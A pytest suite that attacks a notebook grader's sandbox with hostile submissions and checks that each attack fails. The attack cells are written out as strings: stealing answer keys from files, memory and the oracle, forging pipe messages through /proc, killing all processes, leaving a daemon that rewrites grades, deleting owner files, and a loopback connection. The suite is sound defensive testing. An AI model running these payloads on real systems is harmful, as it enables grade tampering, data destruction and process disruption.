"""The grader as a boundary, tried the way an attacker works: hostile submissions, graded in one batch
with two jobs beside honest ones, by the real command line.

Each attack is a learner's notebook of lesson 01. Those that try to learn the answers (the key
files on disk, the keys in memory, `load_keys()`, the lesson's own `check()` as an oracle) start
from an untouched notebook and fill every answer cell from what they found: they must score what
an untouched notebook scores. Those that try to harm others (forged messages in other runs'
pipes, killing every process in sight, a process that outlives its run, writing files, the
network) run beside complete submissions, which must keep full marks with no note, and the test
checks that nothing outside the run changed and nothing is left running. Then the grader's own
output: notes capped and free of key text, cells that a spreadsheet or a terminal would misread,
long answers, symbolic links and odd file names, an absurd number.

Where bubblewrap cannot start a sandbox, these tests are skipped with the reason, never passed.
"""

from __future__ import annotations

import copy
import csv
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from course.grading.sandbox import sandbox_problem
from helpers import DATASETS, READABLE_KEYS, ROOT, SOLUTIONS, run_course
from test_grade import LESSON, QIDS, complete, index_of, insert_after, notebook, read_csv, set_source

pytestmark = pytest.mark.slow
PROBLEM = sandbox_problem(ROOT / "course", DATASETS)
needs_sandbox = pytest.mark.skipif(bool(PROBLEM), reason=f"no sandbox here: {PROBLEM[:200]}")

MARKER = "course-grade-escape-marker"
ANSWER_QIDS = QIDS   # every exercise of lesson 01 has an answer cell
SECRET = json.loads((READABLE_KEYS / "05_balancing_interests.json").read_text(encoding="utf-8"))["exercises"]
SECRET_TEXT = next(ex["model"] for ex in SECRET.values() if ex.get("kind") == "open")


def stealing(how: str) -> dict:
    """An untouched notebook whose first code cell tries to steal the answers `how`, and whose every
    answer cell sets `answer` from what it stole."""
    nb = notebook(LESSON)
    first_code = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code")
    nb["cells"][first_code]["source"] += "\n" + STEAL[how]
    for qid in ANSWER_QIDS:
        cell = nb["cells"][index_of(nb, f"answer:{qid}")]
        cell["source"] = f"answer = STOLEN.get({qid!r}, ...)"
    return nb


STEAL = {
    "files": """
import glob, json, os, course
from course.exercises.keys import unseal
STOLEN = {}
package = os.path.dirname(course.__file__)
folders = [os.path.join(package, "keys"), os.path.join(os.path.dirname(package), "notebooks", "solutions", "keys"),
           os.path.join(os.path.dirname(package), "course", "keys")]
for folder in folders:
    for path in glob.glob(os.path.join(folder, "*.json")):
        try:
            data = json.load(open(path))
        except Exception:
            continue
        for qid, ex in data.get("exercises", {}).items():
            if "sealed" in ex:
                ex = {**ex, **unseal(ex["sealed"])}
            if "answer" in ex:
                STOLEN[qid] = ex["answer"] if not isinstance(ex["answer"], list) or ex.get("kind") != "mapping" else ex["answer"]
""",
    "memory": """
import gc
STOLEN = {}
for thing in gc.get_objects():
    if isinstance(thing, dict):
        for qid, ex in list(thing.items())[:500]:
            if isinstance(qid, str) and qid.startswith("q01_") and isinstance(ex, dict) and "answer" in ex:
                STOLEN[qid] = ex["answer"]
""",
    "load_keys": """
STOLEN = {}
try:
    from course.exercises.keys import load_keys
    STOLEN = {qid: ex["answer"] for qid, ex in load_keys().items() if "answer" in ex}
except Exception as error:
    print(error)
""",
    "oracle": """
import contextlib, io
STOLEN = {}
for qid in ["q01_1", "q01_5"]:
    for letter in "abcd":
        out = io.StringIO()
        with contextlib.redirect_stdout(out):
            check(qid, letter)
        if "Correct" in out.getvalue():
            STOLEN[qid] = letter
for guess in ["S1", "S2", "S3", "S4", "S5", "S6", "S7", "S8", "S9", "S10"]:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        check("q01_4", guess)
    if "Correct" in out.getvalue():
        STOLEN["q01_4"] = guess
""",
}


def harming(source: str) -> dict:
    """A complete notebook with a hostile cell after its first exercise: it should cost only itself."""
    return insert_after(complete(), "check:q01_1", source)


FORGE = """
import os, json
forged = ["start", 1], ["read", "q01_2", ["dict", []]], ["done"]
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for fd in os.listdir(f"/proc/{pid}/fd") if os.access(f"/proc/{pid}/fd", os.R_OK) else []:
        try:
            with open(f"/proc/{pid}/fd/{fd}", "w") as pipe:
                for token in ("-", "0" * 32):
                    for message in forged:
                        pipe.write(token + " " + json.dumps(message) + "\\n")
        except Exception:
            pass
"""
KILL_ALL = """
import os, signal
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except Exception:
            pass
"""


def escaping(out: Path) -> str:
    """A cell that leaves a double-forked daemon behind, meant to rewrite the grade sheet after grading."""
    return f"""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            os.rename("/proc/self/cmdline", "/x")
        except Exception:
            pass
        import sys
        sys.argv = ["{MARKER}"]
        for _ in range(150):
            time.sleep(0.1)
            for path in ({str(out)!r}, "/tmp/{MARKER}"):
                try:
                    open(path, "a").write("learner,total\\nme,999\\n")
                except Exception:
                    pass
        os._exit(0)
    os._exit(0)
"""


def writing(targets: list[Path]) -> str:
    """A cell that tries to write into and delete files the grader and the instructor own."""
    return "\n".join(["import os, shutil"] + [
        f"""
for action in (lambda: open({str(t / 'pwned.txt')!r}, "w").write("x"), lambda: shutil.rmtree({str(t)!r})):
    try:
        action()
    except Exception:
        pass""" for t in targets])


def network(port: int) -> str:
    return f"""
import socket
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(b"pwned")
except Exception as error:
    print(error)
"""


class Listener:
    """A TCP server on the loopback that records whatever reaches it."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(5)
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.running = True
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.received.append(connection.recv(100))
            connection.close()

    def close(self) -> None:
        self.running = False
        self.thread.join(timeout=5)
        self.server.close()


def fingerprint(folder: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def leftovers() -> list[str]:
    """Processes anywhere on the machine that carry the escape marker."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            if MARKER in (Path("/proc") / pid / "cmdline").read_bytes().decode("utf-8", "replace"):
                found.append(pid)
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory) -> dict:
    """The whole batch, graded once with two jobs; what the tests read afterwards."""
    root = tmp_path_factory.mktemp("attacks")
    submitted, out = root / "submitted", root / "out"
    owned = root / "instructor"   # files of the instructor's that a submission must not reach
    owned.mkdir()
    (owned / "notes.txt").write_text("mine", encoding="utf-8")
    listener = Listener()
    big_number = set_source(complete(), "answer:q01_3", "answer = 10 ** 400")
    long_answer = set_source(complete(), "answer:q01_8", "answer = " + repr("I think S1 says so. " * 7_500))
    padded = copy.deepcopy(complete())
    cell = padded["cells"][index_of(padded, "check:q01_2")]
    cell["source"] = 'check("q01_2",' + " " * 300_000 + "answer)"
    edited = copy.deepcopy(complete())
    for number in range(2_500):
        edited["cells"].append({"cell_type": "code", "execution_count": None, "metadata": {"tags": ["check:q01_9"]},
                                "outputs": [], "source": f"print({number})"})
    learners = {
        "honest_a": complete(), "honest_b": complete(), "honest_c": complete(), "untouched": notebook(LESSON),
        "steal_files": stealing("files"), "steal_memory": stealing("memory"), "steal_load_keys": stealing("load_keys"),
        "steal_oracle": stealing("oracle"),
        "forge_pipes": harming(FORGE), "kill_all": harming(KILL_ALL), "escape": harming(escaping(out / "grades.csv")),
        "write_outside": harming(writing([owned, SOLUTIONS.parent.parent / "course", DATASETS, out, submitted])),
        "network": harming(network(listener.port)),
        "key_in_error": harming(f"raise ValueError({SECRET_TEXT!r})"),
        "big_number": big_number, "long_answer": long_answer, "padded_check": padded, "edited_checks": edited,
        "=HYPERLINK(\"x\")": complete(), "red\x1b[31mname": complete(),
    }
    for name, nb in learners.items():
        (submitted / name).mkdir(parents=True)
        (submitted / name / f"{LESSON}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    (submitted / "honest_a" / f"..x{LESSON}.ipynb").write_text(json.dumps(complete()), encoding="utf-8")
    (submitted / "linked").mkdir()
    (submitted / "linked" / f"{LESSON}.ipynb").symlink_to(SOLUTIONS / f"{LESSON}.ipynb")
    watched = {"course": fingerprint(ROOT / "course"), "datasets": fingerprint(DATASETS),
               "solutions": fingerprint(SOLUTIONS), "owned": fingerprint(owned), "submitted": fingerprint(submitted)}
    try:
        result = run_course("grade", str(submitted), "--out", str(out / "grades.csv"), "--feedback",
                            str(out / "feedback"), "--jobs", "2", "--timeout-cell", "10", timeout=600)
        sheet_after_grading = (out / "grades.csv").read_bytes()
        time.sleep(2)   # the escaping daemon, if alive, would strike every 0.1 s for 15 s
    finally:
        listener.close()
    return {"result": result, "rows": {r["learner"]: r for r in read_csv(out / "grades.csv")}, "out": out,
            "root": root, "owned": owned, "submitted": submitted, "watched": watched, "listener": listener,
            "sheet": sheet_after_grading}


def points(row: dict) -> dict[str, str]:
    return {q: row[q] for q in QIDS}


FULL = {q: ("" if q == "q01_8" else "1") for q in QIDS}
NOTHING = {q: "0" for q in QIDS}


# ---------------------------------------------------------------- marks without the answers

@needs_sandbox
def test_the_batch_ran(attacked):
    assert attacked["result"].returncode == 0, attacked["result"].stderr[-3000:]


@needs_sandbox
@pytest.mark.parametrize("how", ["files", "memory", "load_keys", "oracle"])
def test_stealing_the_answers_scores_what_an_untouched_notebook_scores(attacked, how):
    row = attacked["rows"][f"steal_{how}"]
    assert points(row) == points(attacked["rows"]["untouched"]) == NOTHING, row["notes"]
    assert row["status"] == "ok"


# ---------------------------------------------------------------- harm to others

@needs_sandbox
def test_honest_submissions_beside_the_attacks_keep_full_marks_and_no_note(attacked):
    for name in ("honest_a", "honest_b", "honest_c"):
        row = attacked["rows"][name]
        assert (points(row), row["status"], row["notes"]) == (FULL, "ok", ""), name


@needs_sandbox
@pytest.mark.parametrize("name", ["forge_pipes", "escape", "write_outside", "network", "key_in_error"])
def test_an_attack_costs_at_most_its_own_cell(attacked, name):
    row = attacked["rows"][name]
    assert points(row) == FULL, (name, row["notes"])


@needs_sandbox
def test_killing_every_process_in_sight_kills_only_its_own_run(attacked):
    """The cell kills its own sandbox's zygote (all it can see): its run stops, and the rest of the notebook
    is tried again without the cell that was running; it keeps at most its own honest points."""
    row = attacked["rows"]["kill_all"]
    assert row["status"] == "kernel-died" and "ended the Python process" in row["notes"]
    assert row["q01_1"] == "1" and all(row[q] in ("0", FULL[q]) for q in QIDS)


@needs_sandbox
def test_nothing_outside_the_runs_changed(attacked):
    watched = attacked["watched"]
    assert fingerprint(ROOT / "course") == watched["course"]
    assert fingerprint(DATASETS) == watched["datasets"]
    assert fingerprint(SOLUTIONS) == watched["solutions"]
    assert fingerprint(attacked["owned"]) == watched["owned"]
    assert fingerprint(attacked["submitted"]) == watched["submitted"]
    assert not list(attacked["out"].glob("pwned*"))


@needs_sandbox
def test_nothing_outlives_grading(attacked):
    assert leftovers() == []
    assert not Path(f"/tmp/{MARKER}").exists()
    assert (attacked["out"] / "grades.csv").read_bytes() == attacked["sheet"], "the sheet changed after grading"


@needs_sandbox
def test_the_network_is_out_of_reach(attacked):
    assert attacked["listener"].received == []


# ---------------------------------------------------------------- what the grader writes

@needs_sandbox
def test_an_exception_carrying_key_text_does_not_bring_it_back(attacked):
    row = attacked["rows"]["key_in_error"]
    assert "ValueError" in row["notes"] and "[key text removed]" in row["notes"]
    out = attacked["out"]
    for text in [row["notes"], (out / "feedback" / "key_in_error.md").read_text(encoding="utf-8"),
                 (out / "grades.csv").read_text(encoding="utf-8")]:
        assert SECRET_TEXT[:60] not in text


@needs_sandbox
def test_an_absurd_number_is_not_yet_not_a_grader_error(attacked):
    row = attacked["rows"]["big_number"]
    assert row["q01_3"] == "0" and row["status"] == "ok"
    feedback = (attacked["out"] / "feedback" / "big_number.md").read_text(encoding="utf-8")
    assert "far too large" in feedback


@needs_sandbox
def test_a_padded_check_cell_is_graded_as_the_lesson_wrote_it(attacked):
    row = attacked["rows"]["padded_check"]
    assert (points(row), row["status"], row["notes"]) == (FULL, "ok", "")


@needs_sandbox
def test_thousands_of_edited_check_cells_give_a_short_note(attacked):
    row = attacked["rows"]["edited_checks"]
    assert points(row) == FULL
    assert len(row["notes"]) < 2_500 and "more notes" in row["notes"]


@needs_sandbox
def test_a_long_answer_is_cut_on_the_marking_sheet_and_merging_still_works(attacked, tmp_path):
    out = attacked["out"]
    sheet = out / "grades_marking_q01_8.csv"
    rows = read_csv(sheet)
    long_row = next(r for r in rows if r["learner"] == "long_answer")
    assert "[truncated: 150,000 characters in all" in long_row["answer"] and len(long_row["answer"]) < 10_200
    for row in rows:
        row["score"] = "2" if row["learner"] == "long_answer" else row["score"]
    copy_sheet = tmp_path / sheet.name
    with copy_sheet.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    merged = run_course("grade", "--merge", str(out / "grades.csv"), str(copy_sheet), "--out",
                        str(tmp_path / "final.csv"))
    assert merged.returncode == 0, merged.stderr
    final = {r["learner"]: r for r in read_csv(tmp_path / "final.csv")}
    assert final["long_answer"]["q01_8"] == "2"


@needs_sandbox
def test_names_that_a_spreadsheet_or_a_terminal_would_misread_are_neutralised(attacked):
    names = set(attacked["rows"])
    assert "'=HYPERLINK(\"x\")" in names, names
    assert "red?[31mname" in names
    assert "\x1b" not in attacked["result"].stderr and "\x1b" not in (attacked["out"] / "grades.csv").read_text()


@needs_sandbox
def test_links_and_hidden_files_are_refused_with_a_line_each_and_names_stay_right(attacked):
    err = attacked["result"].stderr
    assert "linked" not in attacked["rows"] and "symbolic link" in err
    assert f"..x{LESSON}.ipynb" in err and "hidden file" in err
    assert {"honest_a", "honest_b", "untouched", "steal_files"} <= set(attacked["rows"])


# ---------------------------------------------------------------- without a sandbox

def test_without_bubblewrap_grading_refuses_with_one_line_and_writes_nothing(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / f"{LESSON}.ipynb").write_text(json.dumps(complete()), encoding="utf-8")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "python3").symlink_to(sys.executable)
    env = {**os.environ, "PATH": str(bin_dir)}   # no bwrap on this PATH
    done = subprocess.run([sys.executable, "-m", "course", "grade", str(tmp_path / "in"), "--out",
                           str(tmp_path / "out" / "g.csv")], cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 2
    assert "bubblewrap is not installed" in done.stderr and "apt install bubblewrap" in done.stderr
    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "out").exists()


def test_unsafe_grading_says_so_in_every_row(tmp_path):
    (tmp_path / "in" / "ana").mkdir(parents=True)
    (tmp_path / "in" / "ana" / f"{LESSON}.ipynb").write_text(json.dumps(complete()), encoding="utf-8")
    (tmp_path / "in" / "ben").mkdir()
    (tmp_path / "in" / "ben" / f"{LESSON}.ipynb").write_text(json.dumps(notebook(LESSON)), encoding="utf-8")
    done = run_course("grade", str(tmp_path / "in"), "--out", str(tmp_path / "g.csv"), "--unsafe-no-sandbox",
                      timeout=180)
    assert done.returncode == 0, done.stderr
    rows = read_csv(tmp_path / "g.csv")
    assert len(rows) == 2 and all("WITHOUT a sandbox" in r["notes"] for r in rows)
    assert points(next(r for r in rows if r["learner"] == "ana")) == FULL
